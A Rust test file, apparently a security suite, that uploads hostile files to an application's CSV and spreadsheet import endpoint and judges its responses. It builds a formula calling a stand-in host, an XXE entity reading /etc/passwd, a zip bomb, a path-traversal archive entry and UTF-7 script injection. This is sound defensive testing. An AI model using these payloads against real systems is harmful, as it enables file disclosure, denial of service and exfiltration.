//! Files: too wide, too deep, in another encoding, packed to burst, with formulas and with links to elsewhere.

use std::io::Write as _;

use entity::import::ImportKind;
use poem::http::Method;
use rust_xlsxwriter::Workbook;
use zip::{CompressionMethod, ZipWriter, write::SimpleFileOptions};

use super::{
    Siege, UPLOADS,
    text::{self, short},
    world::World,
};
use crate::house::browser::{Browser, Page};

fn archive(parts: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut zip = ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let packed = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    for (name, content) in parts {
        zip.start_file(*name, packed).unwrap();
        zip.write_all(content).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// A workbook with a formula, a link to elsewhere and hostile texts.
fn workbook(header: &str) -> Vec<u8> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for (column, title) in (0..).zip(header.split(';')) {
        sheet.write_string(0, column, title).unwrap();
        sheet.write_formula(1, column, "=WEBSERVICE(\"https://kwaad.example\")").unwrap();
        sheet.write_url(2, column, "https://kwaad.example").unwrap();
        for (row, text) in (3..).zip(text::stored()) {
            sheet.write_string(row, column, text).unwrap();
        }
    }
    book.save_to_buffer().unwrap()
}

fn files(header: &str) -> Vec<(&'static str, Vec<u8>)> {
    let width = header.split(';').count();
    let rows = |cell: &dyn Fn(usize) -> String| {
        let row = |at| vec![cell(at); width].join(";");
        format!("{header}\n{}", (0..40).map(row).collect::<Vec<_>>().join("\n"))
    };
    let texts = text::all();
    let quoted = |at: usize| {
        format!(
            "\"{}\"",
            texts[at % texts.len()].replace('"', "\"\"").chars().take(3_000).collect::<String>()
        )
    };
    let utf16: Vec<u8> = rows(&quoted).encode_utf16().flat_map(u16::to_be_bytes).collect();
    vec![
        ("texts", rows(&quoted).into_bytes()),
        ("bare texts", rows(&|at| texts[at % texts.len()].chars().take(500).collect()).into_bytes()),
        ("utf-16 without a mark", utf16.clone()),
        ("utf-16", [b"\xfe\xff".to_vec(), utf16].concat()),
        ("utf-16 cut off", [b"\xff\xfe".to_vec(), vec![b'a', 0, 0xd8]].concat()),
        ("windows-1252", encoding_rs::WINDOWS_1252.encode(&rows(&quoted)).0.into_owned()),
        ("utf-7", b"+ADw-x-kwaad+AD4-;naam\n1;2".to_vec()),
        ("invalid utf-8", [header.as_bytes(), b"\n\xff\xc0\xaf;\xed\xa0\x80;kwaad"].concat()),
        ("10 000 columns", format!("{header};{}\n{}", "k;".repeat(10_000), ";".repeat(10_000)).into_bytes()),
        ("a quote that never ends", format!("{header}\n\"{}", "kwaad;\n".repeat(20_000)).into_bytes()),
        ("one long cell", format!("{header}\n{}", "k".repeat(2_000_000)).into_bytes()),
        ("nothing but line ends", "\r\n".repeat(100_000).into_bytes()),
        ("a header twice", format!("{header};{header}\n1;2").into_bytes()),
    ]
}

/// What is no text.
fn packed(header: &str) -> Vec<(&'static str, Vec<u8>)> {
    let entities = "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY k SYSTEM \"file:///etc/passwd\">\
        <!ENTITY l \"&k;&k;&k;&k;\">]><worksheet><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&l;</t></is></c></row></sheetData></worksheet>";
    vec![
        ("a workbook", workbook(header)),
        ("a workbook cut off", workbook(header)[..400].to_vec()),
        ("a bomb", archive(&[("xl/workbook.xml", vec![b' '; 60_000_000])])),
        (
            "an archive of paths",
            archive(&[
                ("../../../../tmp/kwaad", b"kwaad".to_vec()),
                ("xl/worksheets/sheet1.xml", entities.into()),
            ]),
        ),
        (
            "entities",
            archive(&[("[Content_Types].xml", entities.into()), ("xl/workbook.xml", entities.into())]),
        ),
        ("a closed workbook", [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec(), vec![0; 2_000]].concat()),
        ("a picture", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec()),
    ]
}

async fn upload(browser: &mut Browser, kind: &str, name: &str, file: &[u8]) -> Page {
    let part = format!(
        "--grens-kwaad\r\ncontent-disposition: form-data; name=\"kind\"\r\n\r\n{kind}\r\n--grens-kwaad\r\n\
        content-disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\r\n"
    );
    let body = [part.as_bytes(), file, b"\r\n--grens-kwaad--\r\n"].concat();
    let headers =
        [("sec-fetch-site", "same-origin"), ("content-type", "multipart/form-data; boundary=grens-kwaad")];
    browser.send_bytes(Method::POST, "/import", &headers, body).await
}

#[tokio::test]
async fn no_file_makes_more_of_a_cell_than_a_text() {
    let world = World::new().await;
    let mut siege = Siege::of("uploads");
    let mut browser = world.house.browser_of(world.boss).await;
    let headers = [
        (ImportKind::Departments, "code;naam;bovenliggend;soort;kostenplaats"),
        (
            ImportKind::People,
            "Medewerker;Roepnaam;Tussenvoegsel;Achternaam;E-mail werk;Afdelingscode;Functie;Leidinggevende;Datum in dienst",
        ),
        (
            ImportKind::Workshops,
            "code;titel;samenvatting;kernwaarden;vorm;duur_minuten;dagdelen;min_deelnemers;max_deelnemers;doelgroep;aanbod;leerdoelen",
        ),
    ];
    for (kind, header) in headers {
        for (name, file) in files(header).into_iter().chain(packed(header)) {
            let page = upload(&mut browser, kind.code(), "kwaad.csv", &file).await;
            siege.judge(&format!("{} {name}", kind.code()), &page);
            if page.status.is_redirection() {
                let preview = browser.get(page.location()).await;
                siege.judge(&format!("{} {name}, shown", kind.code()), &preview);
            }
        }
    }
    for text in text::all() {
        let name: String = text.chars().filter(|sign| !sign.is_control() && *sign != '"').take(300).collect();
        let page = upload(&mut browser, "departments", &name, b"code;naam\nA;B\n").await;
        siege.judge(&format!("a file called {}", short(&name)), &page);
    }
    siege.judge("what was loaded before", &browser.get("/import").await);
    siege.end(UPLOADS);
}
